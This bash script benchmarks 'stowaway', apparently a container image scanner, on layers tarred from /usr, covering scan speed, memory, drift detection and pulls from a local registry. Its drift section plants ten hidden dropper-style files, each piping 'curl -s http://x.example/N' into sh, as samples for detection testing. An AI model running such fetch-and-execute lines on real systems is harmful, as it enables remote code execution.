#!/usr/bin/env bash
# Benchmark: stowaway scan vs the raw limit `gzip -dc LAYER | sha256sum` on
# the same blob, plus stowaway's peak RSS. Real data: tars of parts of this
# machine's /usr, packed as gzip layers.
#
#   benches/bench.sh [small|minbase|large|bytes|many|drift|registry|all]
#
# small: one layer of /usr/share + /usr/bin (>100 MB, >5,000 files)
# minbase: one layer of $STOWAWAY_MINBASE (a Debian minbase root filesystem)
# large: the same plus /usr/lib, split into several layers (>1 GB, >100,000 files)
# bytes: >1 GB of large files (few thousand): peak RSS follows the number of
#        files, not the number of bytes
# many: synthetic one-layer images of 51,000 and 150,000 empty files
#        (examples/many_files.rs): peak RSS and warm rescan per file
# drift: a container of the small image with 10 changed files, read as a
#        whole root filesystem (--rootfs) and as an overlay upper dir (--upperdir)
# registry: the small image pushed to a loopback docker-registry; stowaway's
#        pull+scan against `skopeo copy` to an OCI dir followed by a scan of it
# Also prints the per-file inspection cost on /usr/bin (examples/inspect_cost).
# Data is cached under bench-data/ (git-ignored).
set -euo pipefail
cd "$(dirname "$0")/.."
which=${1:-all}
data=bench-data
mkdir -p "$data"

cargo build --release --quiet --bin stowaway --example pack_layout --example inspect_cost \
  --example inflate_limit
cargo build --release --quiet --features fixture --example many_files
bin=target/release/stowaway
pack=target/release/examples/pack_layout
limit=target/release/examples/inflate_limit
echo "load average: $(cut -d' ' -f1-3 /proc/loadavg), $(nproc) cores"

layer() { # name, paths relative to /
  local name=$1; shift
  [ -f "$data/$name.tar.gz" ] || tar -C / --warning=no-file-changed -cf - "$@" 2>/dev/null | gzip -6 > "$data/$name.tar.gz" || true
}

big_files_layer() { # name: files of 1 MiB or more under /usr
  local name=$1
  [ -f "$data/$name.tar.gz" ] || (cd / && find usr -xdev -type f -size +1M -print0 |
    tar --null -T - --warning=no-file-changed -cf - 2>/dev/null | gzip -6 > "$OLDPWD/$data/$name.tar.gz") || true
}

measure() { # label, command...
  python3 - "$@" <<'PY'
import os, subprocess, sys, time
label, cmd = sys.argv[1], sys.argv[2:]
best = None
for _ in range(3):
    t = time.perf_counter()
    p = subprocess.Popen(cmd, stdout=subprocess.DEVNULL)
    _, status, ru = os.wait4(p.pid, 0)
    wall = time.perf_counter() - t
    if status != 0 and os.waitstatus_to_exitcode(status) not in (0, 1):
        sys.exit(f"{label}: exit {os.waitstatus_to_exitcode(status)}")
    if best is None or wall < best[0]:
        best = (wall, ru.ru_maxrss / 1024)
print(f"{label}\t{best[0]:.3f}\t{best[1]:.1f}")
PY
}

run_case() { # name, layers...
  local name=$1; shift
  local dir="$data/$name-oci"
  [ -f "$dir/index.json" ] || { rm -rf "$dir"; "$pack" "$dir" "$@" >/dev/null; }
  measure_layout "$name" "$dir" "$@"
}

layout_layers() { # dir: the layer blob files of an OCI layout's one image
  python3 - "$1" <<'PY'
import json, sys
d = sys.argv[1]
blob = lambda dg: f"{d}/blobs/sha256/{dg.split(':')[1]}"
m = json.load(open(blob(json.load(open(f"{d}/index.json"))["manifests"][0]["digest"])))
print(" ".join(blob(l["digest"]) for l in m["layers"]))
PY
}

measure_layout() { # name, layout dir, layers...
  local name=$1 dir=$2; shift 2
  local raw=0 comp=0
  for l in "$@"; do
    comp=$((comp + $(stat -c %s "$l")))
    raw=$((raw + $(gzip -dc "$l" | wc -c)))
  done
  local files
  files=$(for l in "$@"; do tar -tzf "$l"; done | wc -l)
  echo "== $name: $# layer(s), $((comp >> 20)) MiB gzip, $((raw >> 20)) MiB tar, $files entries"
  # The raw limit: decompress and hash every layer, one after another, as a shell pipeline.
  local gz
  gz=$(measure "gzip -dc | sha256sum" sh -c 'for l in "$@"; do gzip -dc "$l" | sha256sum; done' sh "$@" | cut -f2)
  # The physical limit: one thread inflating and sha256-hashing each blob.
  local lim
  lim=$("$limit" "$@")
  local st
  st=$(measure "stowaway scan" "$bin" scan "oci:$dir" --format json --no-cache)
  # Warm rescan: fill the cache once (layers, squashed view, findings), then measure.
  rm -f "$data/$name-cache.db"*
  "$bin" scan "oci:$dir" --format json --db "$data/$name-cache.db" >/dev/null || true
  local warm
  warm=$(measure "stowaway warm" "$bin" scan "oci:$dir" --format json --db "$data/$name-cache.db" | cut -f2)
  local st_wall st_rss
  st_wall=$(echo "$st" | cut -f2)
  st_rss=$(echo "$st" | cut -f3)
  python3 -c "
gz, st, rss, lim = $gz, $st_wall, $st_rss, $lim
print(f'  gzip -dc | sha256sum : {gz:7.2f} s')
print(f'  inflate+sha256, 1 thread: {lim:7.2f} s  (examples/inflate_limit)')
print(f'  stowaway scan        : {st:7.2f} s  ({$raw/1048576/st:.0f} MiB/s of tar)')
print(f'  ratio scan/pipeline  : {st/gz:7.2f}  (target <= 0.80)')
print(f'  ratio scan/limit     : {st/lim:7.2f}  (target <= 1.3 for one layer)')
print(f'  stowaway peak RSS    : {rss:7.1f} MiB (target <= 64)')
print(f'  warm rescan (cached) : {$warm*1000:7.0f} ms')
"
  if command -v syft >/dev/null; then
    measure "syft" syft -q "oci-dir:$dir" -o json | awk -F'\t' -v st="$st_wall" \
      '{printf "  syft                 : %7.2f s, peak RSS %.1f MiB (stowaway is %.1fx faster)\n", $2, $3, $2/st}'
  fi
}

if [ "$which" = small ] || [ "$which" = all ]; then
  layer usr-share-bin usr/share usr/bin
  run_case small "$data/usr-share-bin.tar.gz"
fi
if [ "$which" = minbase ] || [ "$which" = all ]; then
  # A Debian minbase root filesystem (debootstrap --variant=minbase), as one
  # layer: the cold-scan target is <= 1.3x the inflate+sha256 limit.
  if [ -d "${STOWAWAY_MINBASE:-}/usr" ]; then
    [ -f "$data/minbase.tar.gz" ] || tar -C "$STOWAWAY_MINBASE" -cf - . 2>/dev/null | gzip -6 > "$data/minbase.tar.gz"
    run_case minbase "$data/minbase.tar.gz"
  else
    echo "== minbase: skipped (set STOWAWAY_MINBASE to a Debian minbase root filesystem)"
  fi
fi
if [ "$which" = bytes ] || [ "$which" = all ]; then
  big_files_layer usr-big-files
  run_case bytes "$data/usr-big-files.tar.gz"
fi
if [ "$which" = large ] || [ "$which" = all ]; then
  layer usr-share-bin usr/share usr/bin
  layer usr-lib usr/lib
  layer usr-libexec-include usr/libexec usr/include usr/sbin
  run_case large "$data/usr-share-bin.tar.gz" "$data/usr-lib.tar.gz" "$data/usr-libexec-include.tar.gz"
fi

if [ "$which" = many ] || [ "$which" = all ]; then
  for n in 51000 150000; do
    dir="$data/many-$n-oci"
    [ -f "$dir/index.json" ] || { rm -rf "$dir"; target/release/examples/many_files "$dir" "$n"; }
    # shellcheck disable=SC2046
    measure_layout "many-$n" "$dir" $(layout_layers "$dir")
  done
fi

if [ "$which" = drift ] || [ "$which" = all ]; then
  layer usr-share-bin usr/share usr/bin
  dir="$data/small-oci"
  [ -f "$dir/index.json" ] || { rm -rf "$dir"; "$pack" "$dir" "$data/usr-share-bin.tar.gz" >/dev/null; }
  rootfs="$data/drift-rootfs"
  upper="$data/drift-upper"
  if [ ! -d "$rootfs/usr" ]; then
    mkdir -p "$rootfs" && tar -C "$rootfs" -xzpf "$data/usr-share-bin.tar.gz"
  fi
  rm -rf "$upper" && mkdir -p "$upper/tmp/.x"
  for i in $(seq 1 10); do
    printf '#!/bin/sh\ncurl -s http://x.example/%s | sh\n' "$i" > "$upper/tmp/.x/drop$i"
    chmod 755 "$upper/tmp/.x/drop$i"
  done
  mkdir -p "$rootfs/tmp/.x" && cp -p "$upper"/tmp/.x/* "$rootfs/tmp/.x/"
  files=$(find "$rootfs" | wc -l)
  db="$data/drift-cache.db"
  "$bin" scan "oci:$dir" --db "$db" --format json >/dev/null || true
  echo "== drift: image of $files files, 10 files changed"
  r=$(measure "drift --rootfs" "$bin" drift --rootfs "$rootfs" --image "oci:$dir" --db "$db" --format json | cut -f2,3)
  u=$(measure "drift --upperdir" "$bin" drift --upperdir "$upper" --image "oci:$dir" --db "$db" --format json | cut -f2,3)
  echo "  drift --rootfs   : $(echo "$r" | cut -f1) s, peak RSS $(echo "$r" | cut -f2) MiB"
  echo "  drift --upperdir : $(echo "$u" | cut -f1) s, peak RSS $(echo "$u" | cut -f2) MiB"
  echo "  (both read the image side from the layer cache)"
fi

if [ "$which" = registry ] || [ "$which" = all ]; then
  layer usr-share-bin usr/share usr/bin
  dir="$data/small-oci"
  [ -f "$dir/index.json" ] || { rm -rf "$dir"; "$pack" "$dir" "$data/usr-share-bin.tar.gz" >/dev/null; }
  reg="$data/registry"
  rm -rf "$reg" && mkdir -p "$reg"
  port=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')
  printf 'version: 0.1\nlog:\n  level: error\nstorage:\n  filesystem:\n    rootdirectory: %s\nhttp:\n  addr: 127.0.0.1:%s\n' "$PWD/$reg/data" "$port" > "$reg/config.yml"
  docker-registry serve "$reg/config.yml" >/dev/null 2>&1 &
  regpid=$!
  trap 'kill $regpid 2>/dev/null || true' EXIT
  for _ in $(seq 1 100); do (echo > /dev/tcp/127.0.0.1/$port) 2>/dev/null && break; sleep 0.1; done
  skopeo copy --quiet --dest-tls-verify=false "oci:$dir" "docker://127.0.0.1:$port/small:1"
  ref="docker://127.0.0.1:$port/small:1"
  echo "== registry: the small image from a loopback registry"
  a=$(measure "stowaway pull+scan" "$bin" scan "$ref" --no-cache --format json | cut -f2,3)
  b=$(measure "skopeo copy + scan" sh -c 'rm -rf "$1" && skopeo copy --quiet --src-tls-verify=false "$2" "oci:$1:1" && "$3" scan "oci:$1:1" --no-cache --format json' sh "$reg/copy" "$ref" "$bin" | cut -f2)
  echo "  stowaway pull+scan       : $(echo "$a" | cut -f1) s, peak RSS $(echo "$a" | cut -f2) MiB"
  echo "  skopeo copy + scan of dir: $b s"
  kill $regpid 2>/dev/null || true
fi

echo "== per-file inspection cost on /usr/bin"
target/release/examples/inspect_cost /usr/bin
